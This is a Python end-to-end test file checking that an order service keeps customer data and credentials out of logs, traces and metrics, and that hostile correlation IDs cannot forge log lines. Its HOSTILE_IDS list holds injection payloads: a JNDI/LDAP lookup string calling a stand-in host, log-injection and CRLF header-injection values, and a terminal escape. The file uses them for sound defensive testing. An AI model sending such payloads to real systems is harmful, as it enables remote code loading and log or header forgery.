"""What customers and strangers send stays out of logs, spans and metrics, and cannot forge any of them."""

import json
import re
from typing import Any

import pytest

from stack.layout import Layout
from tests.e2e.seen import SERVICES, Seen
from tests.e2e.senders import OUTCOMES, WORK, Senders, created, order_of
from tests.running import address

MARK = "qw7leak"
"""Part of every name, address, token, key and header that must be seen in no log, span or metric."""
CUSTOMER = {"name": f"Zoë {MARK}", "email": f"{MARK}@example.com"}
SECRETS = {"Idempotency-Key": MARK, "X-API-Key": MARK, "Authorization": f"Bearer {MARK}", "Cookie": MARK}
FORGED = '"level":"critical"'
HOSTILE_IDS: dict[str, bytes] = {
    "a lookup": b"${jndi:ldap://zoemarked.example/a}",
    "a line break": b'x\n{"level":"critical"}',
    "a lone carriage return": b"x\rzoemarked",
    "unicode": "zoemarked\u2028\U0001f608".encode(),
    "JSON": b'zoemarked","level":"critical',
    "a terminal's escape": b"\x1b[31mzoemarked",
    "10 kB": b"zoemarked" * 1_100,
    "two": b"zoemarked-1\r\nX-Correlation-ID: $zoemarked",
}


def marked(token: str, **changes: Any) -> dict[str, Any]:  # noqa: ANN401 - whatever a body may have
    """Return an order of the marked customer."""
    return {**order_of(token), "customer": CUSTOMER, **changes}


async def everything(seen: Seen, layout: Layout) -> dict[str, str]:
    """Return all logs, all spans and all metrics of the services by where they are."""
    found = {file.name: file.read_text(errors="replace") for file in seen.logs.glob("*.log")}
    found["spans"] = await seen.all_traces()
    everything = {"query": '{__name__!=""}'}
    scraped = await seen.client.get(f"{seen.endpoints['prometheus']}/api/v1/query", params=everything)
    found["prometheus"] = scraped.text
    for name in SERVICES:
        url = f"{address(layout, name)}/metrics"
        found[url] = (await seen.client.get(url, headers={"Accept": "application/openmetrics-text"})).text
    return found


async def assert_unseen(senders: Senders, *correlation_ids: str) -> None:
    """Hold everything to be free of the mark, once what the ids set off is logged and stored."""
    for identifier in correlation_ids:
        lines = await senders.seen.log_lines(identifier, "email sent")
        trace_id = lines[0]["trace_id"]
        await senders.seen.trace(trace_id, lambda spans: any(span.name == "send email" for span in spans))
    found = await everything(senders.seen, senders.layout)
    assert [where for where, text in found.items() if MARK in text.lower()] == []
    for identifier in correlation_ids:  # so we looked where the mark would have been
        assert identifier in found["api.log"]
        assert identifier in found["spans"]
        assert not [where for where in found if "metrics" in where and identifier in found[where]]


@pytest.mark.parametrize("token", [f"tok_{MARK}", "tok_declined", "tok_flaky"])
async def test_nobody_sees_who_ordered(senders: Senders, token: str) -> None:
    """Names, addresses, tokens and keys of orders that are paid, declined or retried."""
    identifier = f"e2e-{token.replace(MARK, 'marked')}"
    headers = {**SECRETS, "Idempotency-Key": token + MARK, "X-Correlation-ID": identifier}
    answer = await senders.api.post("/v1/orders", json=marked(token), headers=headers)
    assert answer.status_code == 202
    assert (await senders.seen.emails(answer.json()["id"]))[0]["To"][0]["Address"] == CUSTOMER["email"]
    await assert_unseen(senders, identifier)


async def test_nobody_sees_what_was_refused(senders: Senders) -> None:
    """Wrong bodies, fields, queries and credentials are quoted in no log, span or metric."""
    item = {"sku": MARK, "quantity": 1}
    bodies: list[Any] = [marked(f"{MARK}!"), marked("tok_visa", items=[item]), {"customer": MARK}, [MARK]]
    bodies += [marked("tok_visa", customer={**CUSTOMER, "email": f"{MARK}@nowhere@example.com"})]
    answers = [await senders.api.post("/v1/orders", json=body, headers=SECRETS) for body in bodies]
    json_type = {"content-type": "application/json"}
    answers.append(await senders.api.post("/v1/orders", content=f'{{"{MARK}', headers=json_type))
    answers.append(await senders.api.get("/v1/orders", params={"cursor": MARK, "email": CUSTOMER["email"]}))
    answers.append(await senders.api.get("/v1/dead-letters", headers=SECRETS))
    assert {answer.status_code for answer in answers} == {400, 401, 422}
    await assert_unseen(senders)


async def test_nobody_sees_what_a_dead_letter_says(senders: Senders) -> None:
    """Poison of every kind, and an address that no mail can reach, are dead-lettered without being quoted."""
    event = created()
    event["data"].update(marked(f"tok_{MARK}"))
    too_long = MARK + "\u8a9e" * 200 + "@example.com"  # in bytes
    unreachable = {**event["data"], "customer": {**CUSTOMER, "email": too_long}}
    poison: list[tuple[str, bytes | dict[str, Any], dict[str, Any], str]] = [
        (WORK, f'{{"{MARK}": {MARK}'.encode(), {}, "malformed_json"),
        (WORK, {**event, "type": MARK}, {}, "unknown_type"),
        (WORK, {**event, "data": {**event["data"], "total": MARK}}, {}, "schema_violation"),
        (WORK, event, {"x-attempt": MARK}, "invalid_headers"),
        (WORK, event, {"x-attempt": 1, "traceparent": f"00-{MARK}-b-01"}, "invalid_headers"),
        (WORK, event, {"x-attempt": 1, "baggage": f"customer={MARK}"}, "unknown_order"),
        (OUTCOMES, {**event, "type": "order.done.v1", "data": unreachable}, {}, "recipient_refused"),
    ]
    for queue, body, headers, reason in poison:
        identifier = await senders.send(queue, body, {"x-attempt": 1, "x-first-published-at": 1, **headers})
        dead_letter = await senders.dead_letter(queue, identifier)
        assert not isinstance(body, bytes) or dead_letter.body == body
        added = {name: value for name, value in dead_letter.headers.items() if name not in headers}
        assert added["x-dead-letter-reason"] == reason
        assert MARK not in str(added)
        lines = await senders.seen.log_lines(identifier, "message dead-lettered")
        assert reason in [line.get("reason") for line in lines]
    await assert_unseen(senders)


@pytest.mark.parametrize("name", HOSTILE_IDS)
async def test_ids_cannot_forge_anything(senders: Senders, name: str) -> None:
    """A hostile X-Correlation-ID is replaced, or the request refused; each log line stays one JSON object."""
    request = b"GET /v1/orders?limit=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Correlation-ID: "
    answer = await senders.raw(senders.seen.endpoints["api"], request + HOSTILE_IDS[name] + b"\r\n\r\n")
    head, _, body = answer.partition("\r\n\r\n")
    if head.startswith("HTTP/1.1 400 "):  # the server itself refuses what is no HTTP, and says nothing of it
        assert body == ""
    else:
        assert head.startswith("HTTP/1.1 200 ")
        [identifier] = re.findall(r"(?im)^x-correlation-id: (.*)$", head.replace("\r\n", "\n"))
        assert re.fullmatch("[0-9a-f]{32}|zoemarked-1", identifier)
    for service in SERVICES:
        for line in senders.layout.log(service).read_text().splitlines():
            assert isinstance(json.loads(line), dict)
            assert FORGED not in line.replace(" ", "")
